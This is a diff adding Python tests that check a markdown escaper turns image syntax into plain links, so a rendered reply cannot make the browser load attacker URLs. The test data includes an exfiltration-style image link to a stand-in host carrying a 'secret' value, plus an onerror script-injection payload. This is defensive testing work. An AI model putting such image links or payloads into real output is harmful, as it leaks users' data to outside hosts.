@@ -65,6 +65,28 @@ def test_no_html_reaches_a_markdown_renderer(text: str) -> None:
     assert _html_tokens(escape_markdown(text)) == []
 
 
+def _images(markdown: str) -> list[str]:
+    """The image URLs a CommonMark renderer (markdown-it) would make the browser load."""
+    from markdown_it import MarkdownIt
+
+    md = MarkdownIt("commonmark").enable(["table"])
+    return [c.attrs.get("src", "") for t in md.parse(markdown) for c in t.children or [] if c.type == "image"]
+
+
+def test_images_become_links_so_the_page_loads_nothing_by_itself() -> None:
+    text = "See ![chart](http://evil.example/?c=secret) and ![ref][r] `![x](http://e/c)`\n\n[r]: http://evil.example/r"
+    assert len(_images(text)) == 2  # what an unescaped reply would load
+    out = escape_markdown(text)
+    assert _images(out) == []
+    assert "[chart](http://evil.example/?c=secret)" in out  # still there, as a link
+    assert escape_markdown("```\n![x](u)\n```") == "```\n![x](u)\n```"  # code shows literally
+
+
+@given(st.text(alphabet="ab!`[]()<>:\n *\\u", max_size=120))
+def test_no_image_reaches_a_markdown_renderer(text: str) -> None:
+    assert _images(escape_markdown(text)) == []
+
+
 def test_inline_code_keeps_its_text_but_cannot_open_a_tag() -> None:
     out = escape_markdown("Write `<div>` or `a < b`; [x](`c) <img src=x onerror=alert(1)> `")
     assert "`<\u200bdiv>`" in out and "`a < b`" in out
